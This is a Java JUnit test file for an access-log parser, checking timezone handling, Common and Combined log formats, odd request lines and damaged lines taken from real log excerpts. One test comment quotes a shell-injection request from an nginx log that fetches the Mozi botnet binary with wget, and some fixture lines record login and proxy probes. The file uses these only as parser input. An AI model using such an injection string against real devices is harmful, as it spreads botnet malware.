package dev.tributary.transforms.logs;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.checkerframework.checker.nullness.qual.Nullable;
import org.joda.time.Instant;
import org.junit.jupiter.api.Test;

/**
 * Unit tests of {@link AccessLogParser#parse} against excerpts of real logs (see {@code fixtures/README.md}
 * for where each fixture line comes from) and a few synthetic lines for cases the excerpts lack.
 */
class AccessLogParserTest {
  private static final String NASA = "nasa_aug95_excerpt.log";
  private static final String APACHE = "apache_2004_excerpt.log";
  private static final String NGINX = "nginx_2020_excerpt.log";
  private static final String ELASTIC = "elastic_2015_excerpt.log";
  private static final String SUNDOG = "sundog_2015_excerpt.log";

  // ---------------------------------------------------------------- timestamps and offsets

  @Test
  void negativeOffsetIsAddedToGetUtc() {
    assertEquals(
        record("in24.inetnebr.com", "1995-08-01T04:00:01Z",
            "GET", "/shuttle/missions/sts-68/news/sts-68-mcc-05.txt", "HTTP/1.0", 200, 1839),
        AccessLogParser.parse(line(NASA, 1)));
  }

  @Test
  void zeroOffsetIsUtc() {
    assertEquals(
        record("83.149.9.216", "2015-05-17T10:05:03Z",
            "GET", "/presentations/logstash-monitorama-2013/images/kibana-search.png", "HTTP/1.1", 200, 203023),
        AccessLogParser.parse(line(ELASTIC, 1)));
  }

  @Test
  void positiveOffsetIsSubtractedEvenAcrossMidnight() {
    // 16/Nov/2020:07:53:08 +0800 is still 15 November in UTC.
    assertEquals(
        record("83.97.20.21", "2020-11-15T23:53:08Z", "GET", "/", "HTTP/1.0", 200, 11595),
        AccessLogParser.parse(line(NGINX, 3)));
  }

  @Test
  void offsetMinutesAreApplied() {
    assertEquals(
        Instant.parse("2000-10-10T08:25:36Z"),
        AccessLogParser.parse("h - - [10/Oct/2000:13:55:36 +0530] \"GET / HTTP/1.0\" 200 1").getTimestamp());
    assertEquals(
        Instant.parse("2000-10-10T17:25:36Z"),
        AccessLogParser.parse("h - - [10/Oct/2000:13:55:36 -0330] \"GET / HTTP/1.0\" 200 1").getTimestamp());
  }

  // ---------------------------------------------------------------- Common vs Combined

  @Test
  void combinedFormatGivesTheSameRecordAsCommonFormat() {
    String common = "127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326";
    String combined = common + " \"http://www.example.com/start.html\" \"Mozilla/4.08 [en] (Win98; I ;Nav)\"";
    LogRecord expected =
        record("127.0.0.1", "2000-10-10T20:55:36Z", "GET", "/apache_pb.gif", "HTTP/1.0", 200, 2326);
    assertEquals(expected, AccessLogParser.parse(common));
    assertEquals(expected, AccessLogParser.parse(combined));
  }

  @Test
  void combinedFormatRefererAndAgentAreIgnored() {
    assertEquals(
        record("185.71.216.232", "2015-11-29T03:53:15Z", "POST", "/wp-login.php", "HTTP/1.1", 200, 1691),
        AccessLogParser.parse(line(SUNDOG, 2)));
    assertEquals(
        record("64.31.8.10", "2020-11-15T23:52:07Z", "POST", "/goform/webLogin", "HTTP/1.1", 404, 0),
        AccessLogParser.parse(line(NGINX, 2)));
  }

  @Test
  void combinedFormatWithUnterminatedAgentIsStillParsed() {
    // elastic line 8899: the user agent has no closing quote.
    assertEquals(
        record("46.118.127.106", "2015-05-20T12:05:17Z",
            "GET", "/scripts/grok-py-test/configlib.py", "HTTP/1.1", 200, 235),
        AccessLogParser.parse(line(ELASTIC, 5)));
  }

  // ---------------------------------------------------------------- content size

  @Test
  void dashSizeIsZeroInCommonFormat() {
    assertEquals(
        record("gw1.att.com", "1995-08-01T04:03:53Z",
            "GET", "/shuttle/missions/sts-73/news", "HTTP/1.0", 302, 0),
        AccessLogParser.parse(line(NASA, 4)));
  }

  @Test
  void dashSizeIsZeroInCombinedFormat() {
    assertEquals(
        record("218.30.103.62", "2015-05-17T11:05:11Z", "GET", "/robots.txt", "HTTP/1.1", 200, 0),
        AccessLogParser.parse(line(ELASTIC, 2)));
    assertEquals(
        record("218.30.103.62", "2015-05-17T11:05:17Z",
            "GET", "/projects/xdotool/xdotool.xhtml", "HTTP/1.1", 304, 0),
        AccessLogParser.parse(line(ELASTIC, 3)));
    assertEquals(
        record("89.170.74.95", "2015-05-17T16:05:27Z", "HEAD", "/projects/xdotool/", "HTTP/1.1", 200, 0),
        AccessLogParser.parse(line(ELASTIC, 4)));
  }

  // ---------------------------------------------------------------- requests that are not METHOD target protocol

  @Test
  void dashRequestWith408KeepsTheRecordWithoutRequestFields() {
    assertEquals(
        record("h194n2fls308o1033.telia.com", "2004-03-09T21:49:05Z", null, null, null, 408, 0),
        AccessLogParser.parse(line(APACHE, 3)));
  }

  @Test
  void junkNumericRequestKeepsTheRecordWithoutRequestFields() {
    assertEquals(
        record("64.31.8.10", "2020-11-15T23:52:07Z", null, null, null, 400, 0),
        AccessLogParser.parse(line(NGINX, 1)));
  }

  @Test
  void shellInjectionRequestKeepsTheRecordWithoutRequestFields() {
    // "27;wget%20http://%s:%d/Mozi.m%20-O%20->...%27$ HTTP/1.0": first token is not an upper-case method.
    assertEquals(
        record("222.137.173.255", "2020-11-16T13:05:36Z", null, null, null, 400, 0),
        AccessLogParser.parse(line(NGINX, 7)));
  }

  @Test
  void escapedBytesStayAsLiteralTextInTheEndpoint() {
    assertEquals(
        record("222.240.241.29", "2020-11-16T05:39:24Z",
            "HEAD", "/\\xd0\\xc2\\xbd\\xa8\\xce\\xc4\\xbc\\xfe\\xbc\\xd0.rar", "HTTP/1.1", 404, 140),
        AccessLogParser.parse(line(NGINX, 6)));
  }

  @Test
  void absoluteUriTargetIsKeptAsTheEndpoint() {
    assertEquals(
        record("60.191.125.35", "2020-11-16T03:57:21Z",
            "HEAD", "http://112.124.42.80:63435/", "HTTP/1.1", 200, 283),
        AccessLogParser.parse(line(NGINX, 4)));
    assertEquals(
        record("86.17.42.19", "2020-11-16T04:50:50Z",
            "GET", "http://httpheader.net/azenv.php", "HTTP/1.0", 404, 467),
        AccessLogParser.parse(line(NGINX, 5)));
  }

  @Test
  void asteriskTargetOfOptionsIsKept() {
    assertEquals(
        record("80-219-148-207.dclient.hispeed.ch", "2004-03-08T03:47:36Z", "OPTIONS", "*", "HTTP/1.0", 200, 0),
        AccessLogParser.parse(line(APACHE, 2)));
  }

  @Test
  void http09RequestWithoutProtocolHasNullProtocol() {
    assertEquals(
        record("columbia.acc.brad.ac.uk", "1995-08-01T04:34:55Z", "GET", "/ksc.html", null, 200, 7280),
        AccessLogParser.parse(line(NASA, 11)));
    assertEquals(
        record("h", "2000-10-10T20:55:36Z", "GET", "/", null, 200, 5),
        AccessLogParser.parse("h - - [10/Oct/2000:13:55:36 -0700] \"GET /\" 200 5"));
  }

  @Test
  void requestWithEmbeddedQuotesAndSpacesEndsAtTheQuoteBeforeStatusAndSize() {
    String common = "10.0.0.1 - - [10/Oct/2000:13:55:36 -0700] \"GET /search?q=\"a b\" HTTP/1.1\" 200 2326";
    LogRecord expected =
        record("10.0.0.1", "2000-10-10T20:55:36Z", "GET", "/search?q=\"a b\"", "HTTP/1.1", 200, 2326);
    assertEquals(expected, AccessLogParser.parse(common));
    // The referer and agent quotes that follow must not be taken for the end of the request.
    assertEquals(expected, AccessLogParser.parse(common + " \"http://x/?\" 404 1\" \"agent \"q\"\""));
  }

  // ---------------------------------------------------------------- line endings and hosts

  @Test
  void trailingCarriageReturnOfCrlfLineIsIgnored() {
    // Split on \n only, as a reader that does not know about CRLF would: each line keeps its \r.
    String firstLine = fixtureText(APACHE).split("\n", -1)[0];
    assertTrue(firstLine.endsWith("\r"), "fixture must keep its CRLF line ending");
    assertEquals(
        record("10.10.10.1", "2004-03-08T00:05:49Z",
            "GET", "/twiki/bin/edit/Main/Double_bounce_sender?topicparent=Main.ConfigurationVariables",
            "HTTP/1.1", 401, 12846),
        AccessLogParser.parse(firstLine));
    assertEquals(
        AccessLogParser.parse(line(APACHE, 2)), AccessLogParser.parse(line(APACHE, 2) + "\r\n"));
  }

  @Test
  void dotlessHostIsKept() {
    assertEquals(
        record("3_343_lt_someone", "2004-03-10T21:15:44Z", "GET", "/", "HTTP/1.1", 200, 3169),
        AccessLogParser.parse(line(APACHE, 4)));
  }

  @Test
  void ipv6HostIsKept() {
    assertEquals(
        record("2001:db8::1", "2015-05-17T10:05:03Z", "GET", "/", "HTTP/1.1", 200, 10),
        AccessLogParser.parse("2001:db8::1 - - [17/May/2015:10:05:03 +0000] \"GET / HTTP/1.1\" 200 10 \"-\" \"-\""));
    assertEquals("::1",
        AccessLogParser.parse("::1 - - [17/May/2015:10:05:03 +0000] \"GET / HTTP/1.1\" 200 10").getHost());
  }

  // ---------------------------------------------------------------- damaged lines

  @Test
  void bothHalvesOfNasaLinesSplitInsideTheRequestAreRejected() {
    assertAll(
        () -> assertRejected(line(NASA, 2), "quote"), // ... "GET /shuttle/missions
        () -> assertRejected(line(NASA, 3), "host ident user")); // /sts-71/sts-71-patch-small.gif HTTP/1.0" 200 12054
  }

  @Test
  void bothHalvesOfNasaLinesSplitElsewhereAreRejected() {
    assertAll(
        () -> assertRejected(line(NASA, 7), "status size"), // ... HTTP/1.0" 30
        () -> assertRejected(line(NASA, 8), "host ident user"), // 4 0
        () -> assertRejected(line(NASA, 9), "quoted request"), // ... [01/Aug/1995:00:22:41 -0400]<space>
        () -> assertRejected(line(NASA, 10), "host ident user"), // "GET /icons/text.xbm HTTP/1.0" 200 527
        () -> assertRejected(line(NASA, 12), "host ident user"), // line114.nwm.mindlink.net<space>
        () -> assertRejected(line(NASA, 13), "host ident user")); // - - [01/Aug/1995:01:08:29 -0400] "GET ...
  }

  @Test
  void nasaLineSplitInsideTheHostLeavesASecondHalfThatLooksWellFormed() {
    // "in24.inetnebr." / "com - - [...]": a line-by-line parser cannot know "com" is half a host name.
    assertRejected(line(NASA, 5), "host ident user");
    assertEquals(
        record("com", "1995-08-01T04:13:42Z",
            "GET", "/shuttle/missions/sts-68/mission-sts-68.html", "HTTP/1.0", 200, 49702),
        AccessLogParser.parse(line(NASA, 6)));
  }

  @Test
  void apacheTruncatedRequestIsRejected() {
    String last = line(APACHE, 7);
    assertTrue(last.endsWith("\"GET ... (trunc) ..."), last);
    assertRejected(last, "quote");
  }

  @Test
  void sundogTruncatedLastLineIsRejected() {
    String last = line(SUNDOG, 5);
    assertEquals("5.10.76", last);
    assertRejected(last, "host ident user");
  }

  @Test
  void emptyAndBlankLinesAreRejected() {
    assertAll(
        () -> assertRejected("", "empty"),
        () -> assertRejected("\r", "empty"),
        () -> assertRejected("\r\n", "empty"),
        () -> assertRejected("   ", "empty"));
  }

  @Test
  void impossibleDatesAreRejected() {
    String template = "h - - [%s:10:00:00 +0000] \"GET / HTTP/1.1\" 200 1";
    assertAll(
        () -> assertRejected(String.format(template, "31/Feb/2015"), "no such date"),
        () -> assertRejected(String.format(template, "29/Feb/2015"), "no such date"),
        () -> assertRejected(String.format(template, "00/Mar/2015"), "no such date"),
        () -> assertRejected(String.format(template, "01/Foo/2015"), "month"));
    assertEquals(Instant.parse("2016-02-29T10:00:00Z"),
        AccessLogParser.parse(String.format(template, "29/Feb/2016")).getTimestamp());
  }

  @Test
  void timeOfDayOutOfRangeIsRejected() {
    assertRejected("h - - [01/Mar/2015:24:00:00 +0000] \"GET / HTTP/1.1\" 200 1", "out of range");
    assertRejected("h - - [01/Mar/2015:10:00:00 0000] \"GET / HTTP/1.1\" 200 1", "timestamp");
  }

  @Test
  void statusThatIsNotThreeDigitsIsRejected() {
    String prefix = "h - - [01/Mar/2015:10:00:00 +0000] \"GET / HTTP/1.1\" ";
    assertAll(
        () -> assertRejected(prefix + "20 512", "status size"),
        () -> assertRejected(prefix + "2000 512", "status size"),
        () -> assertRejected(prefix + "2x0 512", "status size"),
        () -> assertRejected(prefix + "200", "status size"),
        () -> assertRejected(prefix + "200 12k", "status size"));
  }

  // ---------------------------------------------------------------- whole fixtures

  @Test
  void fixtureCountsMatchExpectedCounts() {
    List<String> rows = fixtureLines("expected-counts.csv");
    assertEquals("file,lines,parsed,rejected", rows.get(0));
    assertEquals(List.of(NASA, APACHE, NGINX, ELASTIC, SUNDOG),
        rows.stream().skip(1).map(row -> row.split(",")[0]).toList());
    for (String row : rows.subList(1, rows.size())) {
      String[] f = row.split(",");
      int parsed = 0;
      int rejected = 0;
      for (String line : fixtureLines(f[0])) {
        try {
          AccessLogParser.parse(line);
          parsed++;
        } catch (MalformedLogLineException e) {
          rejected++;
        }
      }
      assertEquals(row, String.join(",", f[0], "" + (parsed + rejected), "" + parsed, "" + rejected));
    }
  }

  // ---------------------------------------------------------------- helpers

  private static LogRecord record(
      String host,
      String utc,
      @Nullable String method,
      @Nullable String endpoint,
      @Nullable String protocol,
      int status,
      long size) {
    return new LogRecord(host, Instant.parse(utc), method, endpoint, protocol, status, size);
  }

  /** Asserts that {@code line} is rejected with a readable reason mentioning {@code reasonFragment}. */
  private static void assertRejected(String line, String reasonFragment) {
    MalformedLogLineException e =
        assertThrows(MalformedLogLineException.class, () -> AccessLogParser.parse(line), line);
    String reason = e.getMessage();
    assertNotNull(reason, line);
    assertFalse(reason.isBlank(), line);
    assertTrue(reason.contains(reasonFragment), "reason '" + reason + "' for line: " + line);
  }

  /** Line {@code n} (1-based) of a fixture, as {@link BufferedReader#readLine} returns it. */
  private static String line(String fixture, int n) {
    return fixtureLines(fixture).get(n - 1);
  }

  private static List<String> fixtureLines(String fixture) {
    try (BufferedReader reader = new BufferedReader(
        new InputStreamReader(open(fixture), StandardCharsets.UTF_8))) {
      List<String> lines = new ArrayList<>();
      for (String l = reader.readLine(); l != null; l = reader.readLine()) {
        lines.add(l);
      }
      return lines;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static String fixtureText(String fixture) {
    try (InputStream in = open(fixture)) {
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static InputStream open(String fixture) {
    InputStream in = AccessLogParserTest.class.getResourceAsStream("/fixtures/" + fixture);
    assertNotNull(in, "missing test resource fixtures/" + fixture);
    return in;
  }
}
